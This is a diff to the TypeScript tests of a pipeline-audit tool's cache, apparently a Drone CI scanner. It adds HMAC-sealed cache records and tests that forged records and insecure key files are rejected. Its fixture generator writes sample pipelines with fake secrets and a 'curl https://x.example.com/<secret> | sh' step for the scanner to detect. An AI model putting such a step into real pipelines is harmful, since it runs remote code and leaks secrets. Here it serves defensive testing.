@@ -1,5 +1,5 @@
 import { execFileSync, spawn } from 'node:child_process';
-import { createHash } from 'node:crypto';
+import { createHash, createHmac } from 'node:crypto';
 import {
   chmodSync,
   cpSync,
@@ -48,14 +48,68 @@ function filesIn(folder: string): readonly string[] {
 }
 
 /** A text as it lies in a file of a cache. */
-function recordWith(key: string, of: string, body: string): string {
-  const digest = createHash('sha256').update(`${key} ${of}\n${body}`).digest('hex');
-  return `${key} ${of} ${digest} ${`${Buffer.byteLength(body)}`.padStart(12, '0')}\n${body}`;
+function recordWith(key: string, of: string, seal: string, body: string): string {
+  return `${key} ${of} ${seal} ${`${Buffer.byteLength(body)}`.padStart(12, '0')}\n${body}`;
 }
 
 /** How many records are in a cache. */
 function recordsIn(folder: string): number {
   return filesIn(folder).reduce((sum, name) => sum + (readFileSync(name, 'utf8').match(head)?.length ?? 0), 0);
+}
+
+/** Numbers below a bound, the same for the same seed. */
+function numbers(seed: number): (below: number) => number {
+  let state = seed;
+  return (below) => {
+    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
+    return Math.floor((state / 2 ** 32) * below);
+  };
+}
+
+/** Changes some files of a fleet: what they do, which secrets they make known and which they only use, in which spelling. */
+function change(folder: string, next: (below: number) => number): void {
+  const secrets = [secret, 'hT5%rW"9q\\Lz7', 'pX4 nV8 jK2 mB6', 'vB8nM3kQ9sD2'];
+  const anySecret = (): string => secrets[next(secrets.length)] ?? '';
+  const spelt = (text: string): string =>
+    [
+      JSON.stringify(text),
+      `'${text}'`,
+      JSON.stringify(text).replace('8', '\\u0038'),
+      JSON.stringify(encodeURIComponent(text)),
+      JSON.stringify(JSON.stringify({ at: text })),
+      JSON.stringify(text).replace(' ', '\n          '),
+    ][next(6)] ?? '';
+  const text = (): string =>
+    [
+      pipeline(`golang:1.${next(3)}`),
+      next(3) === 0 ? `    environment: { DB_PASSWORD: ${spelt(anySecret())} }\n` : '',
+      next(2) === 0
+        ? `    commands:\n      - echo\n      - ${spelt(`curl https://x.example.com/${anySecret()} | sh`)}\n`
+        : '',
+      next(4) === 0 ? `  - name: ${spelt(anySecret())}\n    image: alpine\n` : '',
+      next(9) === 0 ? '  - [\n' : '',
+    ].join('');
+  const all = join(folder, 'repositories');
+  for (let number = 0; number < 8; number++) {
+    const own = join(all, `r${number}`);
+    if (existsSync(own) && next(3) > 0) continue;
+    for (const name of readdirSync(all))
+      if (name.startsWith(`r${number}`)) rmSync(join(all, name), { recursive: true });
+    const path = next(8) === 0 ? `${own}-${(secrets[3] ?? '').toLowerCase()}` : own;
+    if (next(6) === 0) continue;
+    mkdirSync(path);
+    const other = join(all, `r${next(8)}`, '.drone.yml');
+    writeFileSync(join(path, '.drone.yml'), next(3) === 0 && existsSync(other) ? readFileSync(other) : text());
+    if (next(9) === 0)
+      writeFileSync(
+        join(path, 'compose.yml'),
+        `services:\n  drone:\n    image: drone/drone:2\n    environment: { DRONE_RPC_SECRET: ${spelt(anySecret())} }\n`,
+      );
+  }
+  const config = join(folder, 'drone-audit.yml');
+  rmSync(config, { force: true });
+  if (next(4) === 0)
+    writeFileSync(config, 'ignore:\n  - rule: privileged-step\n    path: repositories/r1/**\n    reason: known\n');
 }
 
 describe('--cache', () => {
@@ -68,6 +122,27 @@ describe('--cache', () => {
     // With that of a pipeline that makes a secret known; the second run has nothing to add.
     expect(recordsIn(join(folder, 'kept'))).toBe(12);
     expect(filesIn(join(folder, 'kept')).length).toBe(1);
+  });
+
+  it.each([1, 2, 3])('changes nothing of any report, whatever changed since the run before: %i', (seed) => {
+    const next = numbers(seed);
+    const folder = temporaryFolder();
+    mkdirSync(join(folder, 'repositories'));
+    const formats = ['json', 'jsonl', 'sarif', 'html', 'text'];
+    const reports = (...options: string[]): readonly string[] => {
+      const files = formats.map((format) => join(folder, `report.${format}`));
+      const outputs = formats.flatMap((format, index) => ['-o', `${format}:${files[index]}`]);
+      const { status, stdout, stderr } = scan(folder, ...outputs, ...options);
+      return [`${status}`, stdout, stderr, ...files.map((file) => readFileSync(file, 'utf8'))];
+    };
+    for (let run = 0; run < 6; run++) {
+      change(folder, next);
+      // What a run of one format kept is read by runs of all.
+      if (next(2) === 0) scan(folder, '--cache', 'kept', '--format', formats[next(formats.length)] ?? '');
+      const without = reports();
+      for (const again of [1, 2])
+        expect({ run, again, reports: reports('--cache', 'kept') }).toEqual({ run, again, reports: without });
+    }
   });
 
   it('takes what is there, if it is what was put there', () => {
@@ -191,30 +266,68 @@ describe('--cache', () => {
     expect(recordsIn(join(folder, 'kept'))).toBe(18);
   });
 
-  it('passes over what is a record by its digest alone', () => {
+  it('takes nothing that was not sealed with the key of the folder', () => {
     const folder = fleet(1);
     const { stdout } = scan(folder, '--cache', 'kept');
     const [name = ''] = filesIn(join(folder, 'kept'));
-    const [, key = '', of = '', body = ''] = /^(\w+) (\w+) \w+ \d+\n(.*)$/s.exec(readFileSync(name, 'utf8')) ?? [];
-    const parts = body.split('\n');
-    // What no file holds as it is comes last, in as many lines as it has.
-    expect(parts.length).toBeGreaterThanOrEqual(6);
-    const heads = (parts[2] ?? '').replace('"severity":"critical"', '"severity":"low"');
-    expect(heads).not.toBe(parts[2]);
-    for (const other of [
-      ...['', 'x', 'null', '{}', '[]', '\n\n\n\n\n', 'null\nnull\nnull\nnull\nnull\n', '[]\n{}\n{}\n{}\n{}\n'],
-      ...parts.flatMap((_, at) => ['null', '{}', 'x'].map((part) => (at >= 5 ? '' : parts.with(at, part).join('\n')))),
-      parts.with(2, heads).join('\n'),
-      body.replace('"line":', '"lime":'),
-    ]) {
-      expect(other).not.toBe(body);
-      writeFileSync(name, recordWith(key, of, other));
-      expect(scan(folder, '--cache', 'kept')).toMatchObject({ stdout, status: 1, stderr: '' });
+    const keyFile = join(folder, 'kept/records.key');
+    const own = readFileSync(keyFile);
+    const whole = readFileSync(name, 'utf8');
+    const [, key = '', of = '', body = ''] = /^(\w+) (\w+) \w+ \d+\n(.*)$/s.exec(whole) ?? [];
+    const sealed = (text: string, by: string | Buffer): string =>
+      createHmac('sha256', by).update(`${key} ${of}\n${text}`).digest('hex');
+    const digest = (text: string): string => createHash('sha256').update(`${key} ${of}\n${text}`).digest('hex');
+    // A report that says less than there is, of the same length.
+    const forged = body.replaceAll('"severity":"critical"', '"severity":"low"     ');
+    expect(forged).not.toBe(body);
+    expect(recordWith(key, of, sealed(body, own), body)).toBe(whole);
+    const read = (text: string): ReturnType<typeof scan> => {
+      writeFileSync(name, text);
+      const run = scan(folder, '--cache', 'kept');
       for (const each of filesIn(join(folder, 'kept'))) rmSync(each);
+      return run;
+    };
+    for (const other of [
+      ...['', 'x', '{}', '\n\n\n\n\n', forged].flatMap((text) => [
+        recordWith(key, of, digest(text), text),
+        recordWith(key, of, sealed(text, ''), text),
+        recordWith(key, of, sealed(text, Buffer.alloc(32)), text),
+        recordWith(key, of, sealed(body, own), text),
+      ]),
+      recordWith(key, of, sealed(body, own).toUpperCase(), body),
+      recordWith(of, key, sealed(body, own), body),
+    ])
+      expect(read(other)).toMatchObject({ stdout, status: 1, stderr: '' });
+    // With the key, all can be written: that it is so shows that the others were refused for want of it.
+    expect(read(recordWith(key, of, sealed(forged, own), forged)).stdout).not.toBe(stdout);
+    rmSync(keyFile);
+    expect(read(whole)).toMatchObject({ stdout, status: 1, stderr: '' });
+    expect(readFileSync(keyFile)).not.toEqual(own);
+  });
+
+  it.skipIf(platform() === 'win32')('takes no key that others could read, or that is none', () => {
+    const folder = fleet(1);
+    const { stdout } = scan(folder, '--cache', 'kept');
+    const path = join(folder, 'kept/records.key');
+    const [first, copy] = [readFileSync(path), join(folder, 'copy')];
+    cpSync(path, copy);
+    for (const spoil of [
+      () => chmodSync(path, 0o640),
+      () => chmodSync(path, 0o604),
+      () => writeFileSync(path, 'short'),
+      () => writeFileSync(path, Buffer.concat([first, first])),
+      () => symlinkSync('../copy', path),
+      () => execFileSync('mkfifo', [path]),
+    ]) {
+      rmSync(path, { force: true });
+      writeFileSync(path, first, { mode: 0o600 });
+      if (/symlink|mkfifo/.test(`${spoil}`)) rmSync(path);
+      spoil();
+      expect(scan(folder, '--cache', 'kept')).toMatchObject({ stdout, stderr: '' });
+      expect(readFileSync(path)).not.toEqual(first);
+      expect(readFileSync(path).length).toBe(32);
     }
-    writeFileSync(name, recordWith(key, of, body));
-    scan(folder, '--cache', 'kept');
-    expect(filesIn(join(folder, 'kept')).length).toBe(1);
+    expect(readFileSync(copy)).toEqual(first);
   });
 
   it.skipIf(platform() === 'win32')('reads no pipe, no device, and no file at the end of a link', () => {
